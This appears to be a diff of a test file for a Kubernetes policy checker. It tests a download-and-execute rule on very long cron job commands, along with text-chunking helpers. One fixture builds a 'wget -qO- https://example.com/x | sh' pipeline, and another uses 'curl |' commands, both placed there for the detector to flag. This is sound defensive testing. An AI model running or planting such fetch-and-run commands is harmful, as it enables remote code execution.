@@ -3,6 +3,7 @@ import { describe, expect, it } from 'vitest';
 import { loadPack } from '../../src/rules/pack.ts';
 import { evaluateSpec } from '../../src/rules/policy/evaluate.ts';
 import { withLessText } from '../../src/rules/policy/less-text.ts';
+import { piecesOf } from '../../src/rules/policy/pieces.ts';
 import { change, cronJob } from './policy-manifests.ts';
 
 const PACK = await loadPack();
@@ -48,6 +49,21 @@ describe('a long command', () => {
     }
   });
 
+  it.each([3_000, 4_060, 4_090, 4_096])('is searched across a line of %i characters', length => {
+    const tail = `| sh #${'x'.repeat(length - 6)}`;
+    const script = `${lines(60_000)}wget -qO- https://example.com/x \\\n${tail}\n`;
+    expect(judge('download-and-execute', cronJobWith(script)).messages).toHaveLength(1);
+  });
+
+  it('is cut into few pieces, however its lines end', () => {
+    const text = `${'\n'.repeat(1_023)}${'#'.repeat(4_000)}\n`.repeat(20);
+    const pieces = [...piecesOf(text, 4_096)];
+    expect(pieces.length).toBeLessThan(text.length / 2_000);
+    const all = text.split('\n');
+    for (const { start, lines: own } of pieces)
+      expect(all[start]?.endsWith(own[0] ?? '?') || own.length === 1).toBe(true);
+  });
+
   it('is a problem where it has no end', () => {
     const { messages, problems } = judge('download-and-execute', cronJobWith(lines(300_000)));
     expect(messages).toEqual([]);
@@ -80,25 +96,28 @@ describe('a long command', () => {
 describe('an object with less text', () => {
   it('keeps all but the text, at the same paths', () => {
     const [job] =
-      withLessText({
-        spec: {
-          template: {
-            spec: {
-              hostPID: true,
-              containers: [
-                {
-                  name: 'a',
-                  image: 'x',
-                  command: ['one'],
-                  env: [{ name: 'A', value: 'two' }],
-                  securityContext: { privileged: true },
-                },
-              ],
+      withLessText(
+        {
+          spec: {
+            template: {
+              spec: {
+                hostPID: true,
+                containers: [
+                  {
+                    name: 'a',
+                    image: 'x',
+                    command: ['one'],
+                    env: [{ name: 'A', value: 'two' }],
+                    securityContext: { privileged: true },
+                  },
+                ],
+              },
             },
           },
+          kind: 'Job',
         },
-        kind: 'Job',
-      }) ?? [];
+        4_096,
+      ) ?? [];
     expect(job).toEqual({
       spec: {
         template: {
@@ -113,8 +132,13 @@ describe('an object with less text', () => {
   });
 
   it('takes what is malformed as it is', () => {
-    const object = { kind: 'Job', spec: { template: { spec: { containers: [7, { command: 'x', env: 7 }, null] } } } };
-    expect(withLessText(object)?.length).toBe(1);
-    expect(withLessText({ kind: 'Job' })).toEqual([]);
+    const object = { kind: 'Job', spec: { template: { spec: { containers: [7, { command: ['x'], env: 7 }, null] } } } };
+    expect(withLessText(object, 4_096)?.length).toBe(1);
+  });
+
+  it('is none where there is no text to cut, or too many containers to judge with each part', () => {
+    expect(withLessText({ kind: 'Job' }, 4_096)).toBeNull();
+    const containers = Array.from({ length: 2_600 }, (_, index) => ({ name: `c${index}`, command: ['curl | a b'] }));
+    expect(withLessText({ kind: 'Job', spec: { template: { spec: { containers } } } }, 4_096)).toBeNull();
   });
 });
